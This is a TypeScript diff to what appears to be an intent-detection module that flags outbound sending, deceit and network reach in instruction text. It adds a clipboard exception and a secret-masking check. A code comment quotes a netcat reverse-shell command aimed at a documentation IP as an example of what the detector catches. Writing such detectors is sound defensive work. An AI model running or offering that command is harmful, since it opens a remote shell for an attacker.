@@ -15,7 +15,7 @@ import {
   SHARES,
   TOLD,
 } from './intent-flow-words.js';
-import { EXAMPLE, HOME, inSet, isToolName, type Token } from './intent-text.js';
+import { EXAMPLE, HOME, inSet, isToolName, secretMasked, type Token } from './intent-text.js';
 import { SHOWN_TRIGGERS, recordLike, shownReaches } from './intent-shown.js';
 import { STAKES_TRIGGERS, stakesReaches } from './intent-stakes.js';
 import { LASTING_TRIGGERS, lastingReaches } from './intent-lasting.js';
@@ -201,10 +201,14 @@ function sendReaches(ts: Token[], i: number, reach: Set<Reach>, w: string, next:
     // A channel named in the text ("post the summary to #ext-feed"): fixed, but not outside by itself.
     const channel = ts.slice(i + 1, i + 6).some((x, k) => x.kind === 'word' && ts[i + k]!.raw === '#');
     // "upload the attachment to this Base" is a tool's own job: an order to send counts only toward a fixed place.
-    if (fixed || channel || !sendsTo) reach.add('send');
+    // "copied to the clipboard" stays with the person.
+    const own = ts.slice(i + 1, i + 4).some((x) => OWN_PLACE.has(x.w));
+    if ((fixed || channel || !sendsTo) && !own) reach.add('send');
   }
 }
 
+/** Places on the person's own machine a value is put for them: not sent anywhere. */
+const OWN_PLACE = new Set(['clipboard', 'pasteboard']);
 /** Words after which a sending verb's word is a noun. */
 const NOUN_BEFORE = new Set(['the', 'a', 'an', 'this', 'that', 'each', 'every', 'its', 'their']);
 /** Words that point data at a place: "to", "into", "under", "in", "on", "with". */
@@ -237,7 +241,7 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
   // Code that opens a shell or reaches an address by number: "nc -e /bin/sh 203.0.113.9".
   if (t.kind === 'code' && IP.test(t.raw)) reach.add('address');
   sendReaches(ts, i, reach, w, next);
-  if (TOLD.has(w) && near(ts, i, 3, 0, NOT_NOW)) reach.add('deceit');
+  if (TOLD.has(w) && near(ts, i, 3, 0, NOT_NOW) && !secretMasked(ts, i)) reach.add('deceit');
   if (
     (w === 'told' || w === 'informed' || w === 'notified' || w === 'aware' || w === 'bothered') &&
     NEGATED_NEED(ts, i)
